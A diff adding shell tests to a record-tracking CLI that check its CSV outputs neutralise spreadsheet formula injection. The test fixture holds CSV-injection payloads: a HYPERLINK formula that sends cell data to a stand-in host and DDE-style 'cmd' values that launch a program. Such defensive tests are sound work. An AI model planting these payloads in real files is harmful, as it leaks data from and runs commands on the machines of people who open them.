@@ -323,5 +323,30 @@ check "--force writes over it ($rc)" bash -c "test $rc = 0 && test -s site/index
 rt export-site new-site >/dev/null; rc=$?
 check "a new folder is made ($rc)" bash -c "test $rc = 0 && test -s new-site/index.html"
 
+# --- CSV cells that a spreadsheet would run are neutralised in every CSV output
+# (issue 10); --keep-formulas gives the bytes as stored, for machines.
+DB=formulas.db
+rt init >/dev/null
+cat >formulas.json <<'JSON'
+{"format": "rectrack/1", "sources": [{"slug": "csv-injection", "kind": "review", "title": "A hostile file",
+ "date": "2020-01-01", "recommendations": [
+  {"ref": "F1", "text": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "made": "2020-01-01",
+   "assignments": [{"owner": "@SUM(1+1)*cmd|' /C calc'!A0", "due": "2020-03-01"}]},
+  {"ref": "F2", "text": "+cmd|' /C calc'!A0", "made": "2020-01-01", "assignments": [{"owner": "-2+3 Trust"}]}]}]}
+JSON
+rt import json formulas.json >/dev/null 2>err.txt; rc=$?
+check "the hostile file imports ($rc: $(head -c 200 err.txt))" test "$rc" = 0
+rt list --source csv-injection --format csv >list.csv
+rt export csv -o export.csv
+rt owners --format csv >owners.csv
+for f in list.csv export.csv owners.csv; do
+  check "$f: no cell starts a formula" bash -c "! grep -qE '(^|,)\"?[=+@]|(^|,)\"?-[^0-9]' $f"
+  check "$f: the cells are there, neutralised" grep -qE "(^|,)\"?'(=HYPERLINK|@SUM|\\+cmd|-2\\+3)" "$f"
+done
+rt list --source csv-injection --format csv --keep-formulas >kept.csv
+check "--keep-formulas keeps the bytes as stored" grep -qE '(^|,)"?=HYPERLINK' kept.csv
+rt export json -o formulas-export.json
+check "the JSON export is lossless" grep -q '"text": "=HYPERLINK' formulas-export.json
+
 echo "$pass passed, $fail failed"
 ((fail == 0))
